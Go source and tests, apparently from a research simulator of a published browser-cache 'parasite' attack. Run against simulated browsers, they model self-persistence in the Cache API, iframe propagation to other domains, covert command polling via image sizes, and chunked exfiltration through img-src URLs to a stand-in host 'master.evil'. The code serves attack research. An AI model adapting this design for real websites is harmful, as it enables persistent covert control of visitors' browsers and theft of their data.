	_, err := c.stack.Dial(dst, port, func(conn *tcpsim.Conn) {
		conn.OnData(func(b []byte) {
			if done {
				return
			}
			buf = append(buf, b...)
			respBytes := buf
			if sealer != nil {
				plaintext, _, oerr := sealer.Open(buf)
				if errors.Is(oerr, ErrSealIncomplete) {
					return
				}
				if oerr != nil {
					// Forged or corrupted record: the secure channel is
					// poisoned and the exchange aborts — the injected
					// payload never reaches the HTTP layer.
					done = true
					cb(nil, fmt.Errorf("httpsim client: %w", oerr))
					return
				}
				respBytes = plaintext
			}
			resp, _, perr := ParseResponse(respBytes)
			if perr != nil {
				return
			}
			done = true
			cb(resp, nil)
		})
		out := req.Marshal()
		if sealer != nil {
			out = sealer.Seal(out)
		}
		if _, werr := conn.Write(out); werr != nil && !done {
			done = true
			cb(nil, fmt.Errorf("httpsim client write: %w", werr))
		}
	})
	if err != nil {
		cb(nil, fmt.Errorf("httpsim client dial: %w", err))
	}
}

// Get is a convenience for a GET request.
func (c *Client) Get(dst netsim.Addr, port uint16, host, path string, cb func(*Response, error)) {
	c.Do(dst, port, NewRequest("GET", host, path), cb)
}
