package parasite

import (
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"masterparasite/internal/cnc"
	"masterparasite/internal/dom"
	"masterparasite/internal/httpsim"
	"masterparasite/internal/script"
)

// fakeEnv is a programmable script.Env: image requests are routed to an
// in-memory cnc.MasterServer, fetches to a page map. It exercises the
// parasite behaviour without a browser.
type fakeEnv struct {
	host      string
	scriptURL string
	doc       *dom.Document
	master    *cnc.MasterServer
	pages     map[string][]byte // url → body served by Fetch
	storage   map[string]string

	fetches   []string
	noCaches  []string
	iframes   []string
	anchored  map[string]*httpsim.Response
	imageURLs []string
}

func newFakeEnv(host, scriptURL string) *fakeEnv {
	return &fakeEnv{
		host: host, scriptURL: scriptURL,
		doc:      dom.NewDocument(host + "/"),
		master:   cnc.NewMasterServer(),
		pages:    make(map[string][]byte),
		storage:  make(map[string]string),
		anchored: make(map[string]*httpsim.Response),
	}
}

var _ script.Env = (*fakeEnv)(nil)

func (f *fakeEnv) Now() time.Duration              { return 42 * time.Second }
func (f *fakeEnv) PageURL() string                 { return f.host + "/" }
func (f *fakeEnv) PageHost() string                { return f.host }
func (f *fakeEnv) ScriptURL() string               { return f.scriptURL }
func (f *fakeEnv) Document() *dom.Document         { return f.doc }
func (f *fakeEnv) UserAgent() string               { return "fake/1.0" }
func (f *fakeEnv) Cookies(string) string           { return "" }
func (f *fakeEnv) SetCookie(string, string)        {}
func (f *fakeEnv) LocalStorage() map[string]string { return f.storage }

func (f *fakeEnv) Fetch(url string, cb func(*httpsim.Response, error)) {
	f.fetches = append(f.fetches, url)
	body, ok := f.pages[url]
	if !ok {
		cb(httpsim.NewResponse(404, nil), nil)
		return
	}
	cb(httpsim.NewResponse(200, body), nil)
}

func (f *fakeEnv) FetchNoCache(url string, cb func(*httpsim.Response, error)) {
	f.noCaches = append(f.noCaches, url)
	f.Fetch(url, cb)
}

func (f *fakeEnv) AddIframe(url string) { f.iframes = append(f.iframes, url) }

func (f *fakeEnv) AddImage(url string, onload func(int, int, bool)) {
	f.imageURLs = append(f.imageURLs, url)
	// Route master-host images through the real C&C server.
	if strings.HasPrefix(url, "master.evil/") {
		req, err := http.NewRequest(http.MethodGet, "http://m/"+strings.TrimPrefix(url, "master.evil/"), nil)
		if err != nil {
			if onload != nil {
				onload(0, 0, false)
			}
			return
		}
		rec := httptest.NewRecorder()
		f.master.ServeHTTP(rec, req)
		if onload == nil {
			return
		}
		if rec.Code != 200 {
			onload(0, 0, false)
			return
		}
		d, err := cnc.ParseSVG(rec.Body.Bytes())
		if err != nil {
			onload(1, 1, true)
			return
		}
		onload(int(d.W), int(d.H), true)
		return
	}
	if onload != nil {
		onload(1, 1, true)
	}
}

func (f *fakeEnv) CacheAPIPut(url string, resp *httpsim.Response) { f.anchored[url] = resp }

func infectedBody() []byte {
	return script.Embed([]byte("function lib(){}"), "parasite", "s1")
}

func setup(t *testing.T, host string) (*Registry, *Config, *fakeEnv, *script.Runtime) {
	t.Helper()
	reg := NewRegistry()
	cfg := NewConfig("s1", "bot-u", "master.evil")
	reg.Add(cfg)
	rt := script.NewRuntime()
	RegisterBehaviors(rt, reg)
	env := newFakeEnv(host, host+"/lib.js")
	env.pages[host+"/lib.js"] = infectedBody()
	return reg, cfg, env, rt
}

func exec(t *testing.T, rt *script.Runtime, env *fakeEnv) {
	t.Helper()
	if _, err := rt.Execute(env, infectedBody()); err != nil {
		t.Fatal(err)
	}
}

func TestRunReloadsOriginalWithCacheBuster(t *testing.T) {
	reg, _, env, rt := setup(t, "top1.com")
	exec(t, rt, env)
	if reg.Reloads() != 1 {
		t.Fatalf("reloads = %d", reg.Reloads())
	}
	found := false
	for _, u := range env.noCaches {
		if strings.HasPrefix(u, "top1.com/lib.js?t=") {
			found = true
		}
	}
	if !found {
		t.Fatalf("no cache-busted reload in %v", env.noCaches)
	}
}

func TestRunAnchorsInCacheAPI(t *testing.T) {
	reg, _, env, rt := setup(t, "top1.com")
	exec(t, rt, env)
	resp, ok := env.anchored["top1.com/lib.js"]
	if !ok {
		t.Fatal("no Cache API anchor")
	}
	if !script.Infected(resp.Body) {
		t.Fatal("anchored copy not infected")
	}
	if !strings.Contains(resp.Header.Get("Cache-Control"), "max-age=31536000") {
		t.Fatal("anchor lifetime not maximised")
	}
	if reg.Anchors() != 1 {
		t.Fatalf("anchors = %d", reg.Anchors())
	}
}

func TestNoAnchorForCleanCopy(t *testing.T) {
	_, _, env, rt := setup(t, "top1.com")
	env.pages["top1.com/lib.js"] = []byte("function lib(){}") // clean
	exec(t, rt, env)
	if len(env.anchored) != 0 {
		t.Fatal("anchored a clean copy")
	}
}

func TestPropagationTargetsFramedOnce(t *testing.T) {
	_, cfg, env, rt := setup(t, "top1.com")
	cfg.PropagationTargets = []string{"top2.com", "top3.com", "top1.com"}
	exec(t, rt, env)
	if len(env.iframes) != 2 {
		t.Fatalf("iframes = %v (own origin must be skipped)", env.iframes)
	}
	// Second activation on the same origin must not re-frame.
	env.iframes = nil
	exec(t, rt, env)
	if len(env.iframes) != 0 {
		t.Fatalf("re-propagated on second run: %v", env.iframes)
	}
}

func TestPropagationDisabled(t *testing.T) {
	_, cfg, env, rt := setup(t, "top1.com")
	cfg.PropagationTargets = []string{"top2.com"}
	cfg.Propagate = false
	exec(t, rt, env)
	if len(env.iframes) != 0 {
		t.Fatal("propagated despite Propagate=false")
	}
}

func TestCNCPollExecutesCommand(t *testing.T) {
	reg, cfg, env, rt := setup(t, "top1.com")
	var gotParams string
	cfg.Modules["echo"] = func(_ script.Env, params string, exfil Exfil) error {
		gotParams = params
		exfil("echo", []byte("echoed:"+params))
		return nil
	}
	env.master.QueueCommand("bot-u", []byte("echo|ping-1"))
	exec(t, rt, env)
	if gotParams != "ping-1" {
		t.Fatalf("params = %q", gotParams)
	}
	if reg.Commands() != 1 {
		t.Fatalf("commands = %d", reg.Commands())
	}
	loot, ok := env.master.Upload("bot-u", "echo")
	if !ok || string(loot) != "echoed:ping-1" {
		t.Fatalf("loot = %q ok=%v", loot, ok)
	}
}

func TestCNCCommandNotReplayed(t *testing.T) {
	_, cfg, env, rt := setup(t, "top1.com")
	runs := 0
	cfg.Modules["once"] = func(script.Env, string, Exfil) error {
		runs++
		return nil
	}
	env.master.QueueCommand("bot-u", []byte("once|"))
	exec(t, rt, env)
	exec(t, rt, env)
	if runs != 1 {
		t.Fatalf("command ran %d times", runs)
	}
}

func TestUnknownModuleIgnored(t *testing.T) {
	reg, _, env, rt := setup(t, "top1.com")
	env.master.QueueCommand("bot-u", []byte("ghost|x"))
	exec(t, rt, env)
	if reg.Commands() != 0 {
		t.Fatal("unknown module counted as executed")
	}
}

func TestUnknownStrainSilent(t *testing.T) {
	reg := NewRegistry()
	rt := script.NewRuntime()
	RegisterBehaviors(rt, reg)
	env := newFakeEnv("a.com", "a.com/x.js")
	content := script.Embed(nil, "parasite", "never-registered")
	ran, err := rt.Execute(env, content)
	if err != nil || ran != 1 {
		t.Fatalf("ran=%d err=%v", ran, err)
	}
	if len(env.imageURLs) != 0 {
		t.Fatal("unregistered strain did something")
	}
}

func TestExfilStreamsChunkedThroughImages(t *testing.T) {
	_, cfg, env, rt := setup(t, "top1.com")
	big := strings.Repeat("B", 3000) // > 2 chunks at 1024
	cfg.Modules["dump"] = func(_ script.Env, _ string, exfil Exfil) error {
		exfil("dump", []byte(big))
		return nil
	}
	env.master.QueueCommand("bot-u", []byte("dump|"))
	exec(t, rt, env)
	loot, ok := env.master.Upload("bot-u", "dump")
	if !ok || string(loot) != big {
		t.Fatalf("dump loot = %d bytes ok=%v", len(loot), ok)
	}
	uploads := 0
	for _, u := range env.imageURLs {
		if strings.Contains(u, "/up/bot-u/dump/") {
			uploads++
		}
	}
	if uploads != 4 { // 3 chunks + fin
		t.Fatalf("upload image requests = %d, want 4", uploads)
	}
}

func TestInfectedOriginsTracking(t *testing.T) {
	reg, cfg, env, rt := setup(t, "top1.com")
	cfg.Propagate = false
	exec(t, rt, env)
	env2 := newFakeEnv("top2.com", "top2.com/a.js")
	env2.pages["top2.com/a.js"] = infectedBody()
	env2.master = env.master
	exec(t, rt, env2)
	origins := reg.InfectedOrigins("bot-u")
	if len(origins) != 2 {
		t.Fatalf("origins = %v", origins)
	}
}

func TestInlineScriptSkipsReloadAndAnchor(t *testing.T) {
	reg := NewRegistry()
	cfg := NewConfig("s1", "bot-u", "master.evil")
	reg.Add(cfg)
	rt := script.NewRuntime()
	RegisterBehaviors(rt, reg)
	env := newFakeEnv("a.com", "a.com/#inline")
	exec(t, rt, env)
	if reg.Reloads() != 0 || reg.Anchors() != 0 {
		t.Fatal("inline parasite attempted reload/anchor")
	}
}

func TestCrossOriginScriptNoReload(t *testing.T) {
	// A shared third-party file (analytics) runs cross-origin; its body
	// is opaque, so no reload/anchor — but C&C still operates.
	reg := NewRegistry()
	cfg := NewConfig("s1", "bot-u", "master.evil")
	reg.Add(cfg)
	rt := script.NewRuntime()
	RegisterBehaviors(rt, reg)
	env := newFakeEnv("site.com", "analytics.example/ga.js")
	exec(t, rt, env)
	if reg.Reloads() != 0 {
		t.Fatal("cross-origin script reloaded the original")
	}
	if reg.Polls() != 1 {
		t.Fatalf("polls = %d", reg.Polls())
	}
}
