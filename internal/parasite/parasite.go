// Package parasite implements the parasite script's behaviour (§VI): the
// camouflage reload of the original object (Fig. 2 steps 3–4), the
// Cache-API persistence anchor (Table III), propagation to other domains
// via iframes and shared files (§VI-B), and the victim-side half of the
// covert C&C channel (§VI-C, Fig. 4) including command execution and
// exfiltration through img-src requests (Table V: "send to server with
// 'src' property of an 'img' tag").
package parasite

import (
	"fmt"
	"sort"
	"strconv"
	"strings"

	"masterparasite/internal/cnc"
	"masterparasite/internal/httpsim"
	"masterparasite/internal/script"
)

// Module is one attack capability the master can invoke remotely. params
// comes from the command; exfil ships findings back over the covert
// upstream channel.
type Module func(env script.Env, params string, exfil Exfil) error

// Exfil sends data to the master under a stream name.
type Exfil func(stream string, data []byte)

// Config is one parasite strain: everything a parasite instance needs is
// referenced through the marker payload (the config ID), exactly as real
// parasite code would carry its constants inline.
type Config struct {
	// ID is the marker payload identifying this strain.
	ID string
	// BotID identifies the victim to the master.
	BotID string
	// MasterHost is the C&C host ("master.evil").
	MasterHost string
	// PropagationTargets are the popular domains to cross-infect
	// (Fig. 2 step 5: "GET top1.com/persistent.js ...").
	PropagationTargets []string
	// Modules maps command names to attack implementations (Table V).
	Modules map[string]Module
	// Anchor stores the infected object in the Cache API for persistence
	// beyond cache clearing (Table III). On by default via NewConfig.
	Anchor bool
	// Propagate enables iframe propagation. On by default via NewConfig.
	Propagate bool
}

// NewConfig builds a strain with persistence and propagation enabled.
func NewConfig(id, botID, masterHost string) *Config {
	return &Config{
		ID: id, BotID: botID, MasterHost: masterHost,
		Modules:   make(map[string]Module),
		Anchor:    true,
		Propagate: true,
	}
}

// Registry tracks strains and victim-side infection state.
type Registry struct {
	configs map[string]*Config

	infectedOrigins map[string]map[string]bool // botID → origins
	lastSeenCmd     map[string]int             // botID → last executed command

	polls     int
	commands  int
	anchors   int
	reloads   int
	exfilured int
}

// NewRegistry returns an empty registry.
func NewRegistry() *Registry {
	return &Registry{
		configs:         make(map[string]*Config),
		infectedOrigins: make(map[string]map[string]bool),
		lastSeenCmd:     make(map[string]int),
	}
}

// Add registers a strain.
func (r *Registry) Add(cfg *Config) { r.configs[cfg.ID] = cfg }

// Config returns a strain by ID.
func (r *Registry) Config(id string) (*Config, bool) {
	c, ok := r.configs[id]
	return c, ok
}

// InfectedOrigins lists origins where the strain has executed for a
// bot, sorted so callers can log or compare the set deterministically.
func (r *Registry) InfectedOrigins(botID string) []string {
	var out []string
	for o := range r.infectedOrigins[botID] {
		out = append(out, o)
	}
	sort.Strings(out)
	return out
}

// Counters for the experiments.
func (r *Registry) Polls() int    { return r.polls }
func (r *Registry) Commands() int { return r.commands }
func (r *Registry) Anchors() int  { return r.anchors }
func (r *Registry) Reloads() int  { return r.reloads }

// RegisterBehaviors binds the "parasite" marker to its runtime behaviour
// in a browser's script runtime. As with the eviction script, this is the
// simulator's stand-in for "the browser executes delivered JavaScript".
func RegisterBehaviors(rt *script.Runtime, reg *Registry) {
	rt.Register("parasite", func(env script.Env, payload string) error {
		cfg, ok := reg.Config(payload)
		if !ok {
			// Unknown strain: the marker decodes to nothing; stay silent.
			return nil
		}
		return reg.run(env, cfg)
	})
}

// run is one parasite activation (every load of an infected object).
func (r *Registry) run(env script.Env, cfg *Config) error {
	origin := env.PageHost()
	if r.infectedOrigins[cfg.BotID] == nil {
		r.infectedOrigins[cfg.BotID] = make(map[string]bool)
	}
	firstRunHere := !r.infectedOrigins[cfg.BotID][origin]
	r.infectedOrigins[cfg.BotID][origin] = true

	scriptURL := env.ScriptURL()
	name := script.Name(scriptURL)
	sameOrigin := hostOf(name) == origin

	// 1. Camouflage: reload the original object with an ignored query
	// parameter so the page keeps its genuine functionality (Fig. 2
	// steps 3–4). The master recognises ?t= and lets it through.
	if sameOrigin && !strings.Contains(scriptURL, "#inline") {
		r.reloads++
		busted := fmt.Sprintf("%s?t=%d", name, env.Now().Microseconds())
		env.FetchNoCache(busted, func(*httpsim.Response, error) {})
	}

	// 2. Persistence anchor: store our own infected bytes in the Cache
	// API so cache clearing cannot remove us (Table III).
	if cfg.Anchor && sameOrigin && !strings.Contains(scriptURL, "#inline") {
		env.Fetch(scriptURL, func(resp *httpsim.Response, err error) {
			if err != nil || resp == nil || len(resp.Body) == 0 {
				return
			}
			if !script.Infected(resp.Body) {
				return
			}
			r.anchors++
			anchored := httpsim.NewResponse(200, resp.Body)
			anchored.Header.Set("Content-Type", "application/javascript")
			anchored.Header.Set("Cache-Control", "public, max-age=31536000, immutable")
			env.CacheAPIPut(name, anchored)
		})
	}

	// 3. Propagation between domains (§VI-B1): frame the target domains
	// so the browser loads — and the master infects — their objects.
	if cfg.Propagate && firstRunHere {
		for _, target := range cfg.PropagationTargets {
			if target == origin || r.infectedOrigins[cfg.BotID][target] {
				continue
			}
			env.AddIframe(target + "/")
		}
	}

	// 4. C&C (Fig. 4): poll the master through a cross-origin image.
	r.poll(env, cfg)
	return nil
}

// poll fetches the meta image and, when a new command is pending, its
// image sequence; decoding yields the command which is then executed.
func (r *Registry) poll(env script.Env, cfg *Config) {
	r.polls++
	metaURL := fmt.Sprintf("%s/meta/%s.svg", cfg.MasterHost, cfg.BotID)
	env.AddImage(metaURL, func(w, h int, ok bool) {
		if !ok || w == 0 {
			return
		}
		cmdID, count := w, h
		if cmdID == r.lastSeenCmd[cfg.BotID] || count == 0 {
			return
		}
		dims := make([]cnc.Dim, count)
		fetched := 0
		failed := false
		for seq := 0; seq < count; seq++ {
			seq := seq
			imgURL := fmt.Sprintf("%s/img/%s/%d/%d.svg", cfg.MasterHost, cfg.BotID, cmdID, seq)
			env.AddImage(imgURL, func(w, h int, ok bool) {
				if !ok {
					failed = true
				} else {
					dims[seq] = cnc.Dim{W: cnc.Clamp(w), H: cnc.Clamp(h)}
				}
				fetched++
				if fetched == count && !failed {
					r.lastSeenCmd[cfg.BotID] = cmdID
					if data, err := cnc.DecodeDims(dims); err == nil {
						r.execute(env, cfg, data)
					}
				}
			})
		}
	})
}

// execute runs one decoded command of the form "module|params".
func (r *Registry) execute(env script.Env, cfg *Config, command []byte) {
	name, params, _ := strings.Cut(string(command), "|")
	mod, ok := cfg.Modules[name]
	if !ok {
		return
	}
	r.commands++
	exfil := r.exfil(env, cfg)
	// Module failures must not break the page: the parasite stays
	// stealthy (§VI-A "The original function is preserved").
	_ = mod(env, params, exfil)
}

// exfil returns the upstream sender: data encoded into img-src URLs.
func (r *Registry) exfil(env script.Env, cfg *Config) Exfil {
	return func(stream string, data []byte) {
		r.exfilured += len(data)
		chunks := cnc.EncodeURLChunks(data, cnc.DefaultChunkSize)
		for seq, chunk := range chunks {
			url := fmt.Sprintf("%s/up/%s/%s/%s/%s",
				cfg.MasterHost, cfg.BotID, stream, strconv.Itoa(seq), chunk)
			env.AddImage(url, nil)
		}
		env.AddImage(fmt.Sprintf("%s/up/%s/%s/fin", cfg.MasterHost, cfg.BotID, stream), nil)
	}
}

func hostOf(url string) string {
	if i := strings.IndexByte(url, '/'); i >= 0 {
		return url[:i]
	}
	return url
}
